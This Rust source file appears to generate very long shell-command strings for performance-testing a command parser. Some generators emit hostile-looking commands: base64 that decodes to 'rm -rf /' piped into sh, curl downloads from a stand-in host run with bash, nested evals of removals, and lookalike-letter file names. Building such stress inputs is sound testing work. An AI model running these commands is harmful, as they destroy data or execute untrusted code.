//! Long texts of every kind that has ever been slow, by their size in bytes.

/// A kind of text, and how to make one of about so many bytes.
pub(crate) type Kind = (&'static str, fn(usize) -> String);

/// The piece as often as it fits.
pub(crate) fn filled(size: usize, piece: &str) -> String {
    piece.repeat(size / piece.len())
}

/// The pieces with their numbers, as many as fit.
pub(crate) fn numbered(size: usize, piece: impl Fn(usize) -> String) -> String {
    let mut text = String::new();
    for number in 0.. {
        let next = piece(number);
        if text.len() + next.len() > size {
            break;
        }
        text.push_str(&next);
    }
    text
}

fn nested(size: usize, open: &str, close: &str) -> String {
    let depth = size / (open.len() + close.len());
    format!("{}true{}", open.repeat(depth), close.repeat(depth))
}

fn quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

/// `bash -c` in `bash -c`, as deep as quoting allows, around a body that fills the rest.
fn shells(size: usize) -> String {
    let mut text = filled(size / 2, "echo a b; ");
    while text.len() < size / 2 + size / 4 {
        text = format!("bash -c {}", quoted(&text));
        if text.matches("'\\''").count() > 64 {
            break;
        }
    }
    text
}

/// All kinds.
pub(crate) const KINDS: &[Kind] = &[
    ("one word", |size| format!("echo {}", "a".repeat(size))),
    ("one quoted word", |size| {
        format!("echo '{}'", "a b ".repeat(size / 4))
    }),
    ("open classes", |size| "[".repeat(size)),
    ("open groups", |size| "@(".repeat(size / 2)),
    ("removals", |size| filled(size, "rm -rf build; ")),
    ("different removals", |size| {
        numbered(size, |at| format!("rm -rf build/a{at}; "))
    }),
    ("quotes in quotes", |size| {
        format!("echo {}", filled(size, "\"a'b'\"'c\"d\"'\\\"e"))
    }),
    ("open quotes", |size| filled(size, "'\"")),
    ("substitutions in substitutions", |size| {
        nested(size, "echo $(", ")")
    }),
    ("substitutions", |size| filled(size, "echo $(date) `id`; ")),
    ("substitutions in one word", |size| {
        format!("echo \"{}\"", filled(size, "$(id)x"))
    }),
    ("open substitutions", |size| filled(size, "$(")),
    ("open back quotes", |size| {
        format!("echo {}", filled(size, "\\`a`"))
    }),
    ("braces in braces", |size| {
        format!("echo {}x{}", "{a,".repeat(size / 4), "}".repeat(size / 4))
    }),
    ("braces", |size| format!("rm {}", filled(size, "{a,b}"))),
    ("brace words", |size| {
        format!("rm {}", filled(size, "src/{a,b,c}.rs "))
    }),
    ("groups in groups", |size| nested(size, "{ ", "; }")),
    ("parentheses", |size| nested(size, "(", ")")),
    ("a pipe", |size| {
        format!("cat a{}", filled(size, " | grep -v foo"))
    }),
    ("a pipe of different programs", |size| {
        let rest = numbered(size, |at| format!(" | sed s/a{at}/b/ | sort -u"));
        format!("printf '%s' abc{rest}")
    }),
    ("a text through a pipe", |size| {
        let text = "a".repeat(size / 2);
        format!("printf '%s' {text}{}", filled(size / 2, " | cat"))
    }),
    ("a here-document", |size| {
        let body = filled(size, "some line of text $HOME\n");
        format!("cat > out.txt <<EOF\n{body}EOF\n")
    }),
    ("here-documents", |size| {
        filled(size, "cat > out.txt <<EOF\nhello $USER\nEOF\n")
    }),
    ("a here-document of commands", |size| {
        let body = filled(size, "rm -rf build/out\n");
        format!("bash <<'EOF'\n{body}EOF\n")
    }),
    ("a case", |size| {
        let arms = numbered(size, |at| format!("a{at}|b{at}) echo {at};; "));
        format!("case $1 in {arms} esac")
    }),
    ("branches", |size| {
        filled(size, "if [ -f a ]; then x=1; else rm b; fi; ")
    }),
    ("base64", |size| {
        let blob = filled(size, "cm0gLXJmIC8K");
        format!("echo {blob} | base64 -d | sh")
    }),
    ("base64 words", |size| {
        filled(size, "echo cm0gLXJmIGJ1aWxkCg== | base64 -d | sh; ")
    }),
    ("variables", |size| {
        numbered(size, |at| format!("v{at}=a{at}; echo $v{at}; "))
    }),
    ("variables in subshells", |size| {
        numbered(size, |at| format!("v{at}=a; (echo $v{at}); "))
    }),
    ("growing variables", |size| {
        filled(size, "x=$x$y; y=${x:-a}$y; ")
    }),
    ("references", |size| {
        format!("x=/home/dev/project/src; cat {}", filled(size, "$x/a "))
    }),
    ("open parameters", |size| filled(size, "${x:-")),
    ("a chain of folders", |size| {
        filled(size, "cd src && cd .. && rm -rf a && ")
    }),
    ("a chain of doubts", |size| {
        filled(size, "cd src || x=1 || rm -rf a || ")
    }),
    ("tar of files", |size| {
        let files = numbered(size, |at| format!(" src/folder{at}/file.txt"));
        format!("tar czf out.tgz{files}")
    }),
    ("cat of files", |size| {
        let files = numbered(size, |at| format!(" config/{at}.yml"));
        format!("cat{files}")
    }),
    ("grep in folders", |size| {
        let folders = numbered(size, |at| format!(" dir{at}/sub"));
        format!("grep -r foo{folders}")
    }),
    ("patterns", |size| {
        format!("cat {}", filled(size, "*/[a-c]*.?ml "))
    }),
    ("a long path", |size| {
        format!("rm -rf /{}", filled(size, "a/../b/"))
    }),
    ("redirections", |size| filled(size, "echo a > out/b.txt; ")),
    ("redirections of one command", |size| {
        format!("ls{}", filled(size, " >a"))
    }),
    ("descriptors", |size| {
        format!("exec{}", filled(size, " 3<a"))
    }),
    ("substitutions in operands", |size| {
        format!("echo {}", filled(size, "${x/a/$(id)}"))
    }),
    ("operands in operands", |size| {
        format!(
            "echo {}x{}",
            "${x/a/".repeat(size / 7),
            "}".repeat(size / 7)
        )
    }),
    ("node", |size| {
        let calls = filled(size, "require(\"fs\").rmSync(x);");
        format!("node -e '{calls}'")
    }),
    ("shells in shells", shells),
    ("nested evals", |size| {
        filled(size, "eval 'eval \"rm -rf build\"'; ")
    }),
    ("python", |size| {
        let calls = filled(size, "os.remove(\"build/a\");");
        format!("python3 -c 'import os;{calls}'")
    }),
    ("python strings", |size| {
        let parts = filled(size, "a=\"b\"+\"c\"+str(1);");
        format!("python3 -c '{parts}'")
    }),
    ("open calls in python", |size| {
        format!("python3 -c '{}'", filled(size, "a(b["))
    }),
    ("functions", |size| {
        numbered(size, |at| format!("f{at}() {{ rm -rf a; }}; f{at}; "))
    }),
    ("loops", |size| {
        filled(size, "for i in a b c; do rm -rf $i; done; ")
    }),
    ("sudo", |size| filled(size, "sudo -u root ")),
    ("xargs", |size| {
        filled(size, "find . -name '*.o' | xargs rm -f; ")
    }),
    ("git", |size| {
        filled(size, "git add -A && git commit -m x; ")
    }),
    ("unknown programs", |size| filled(size, "$CMD -rf a b; ")),
    ("SQL", |size| {
        let statements = filled(size, "DELETE FROM t WHERE a = 1;");
        format!("psql -c \"{statements}\"")
    }),
    ("blanks", |size| format!("ls{}a", " ".repeat(size))),
    ("semicolons", |size| ";".repeat(size)),
    ("comments", |size| filled(size, "# rm -rf /\n")),
    ("letters that look alike", |size| {
        format!("cat {}", filled(size, "сonfig/é.yml "))
    }),
    ("downloads", |size| {
        numbered(size, |at| {
            format!("curl -o a{at} http://x.y/a{at}; bash a{at}; ")
        })
    }),
    ("arithmetic", |size| filled(size, "echo $((1+2)); ")),
    ("backslashes", |size| format!("echo {}", "\\".repeat(size))),
];
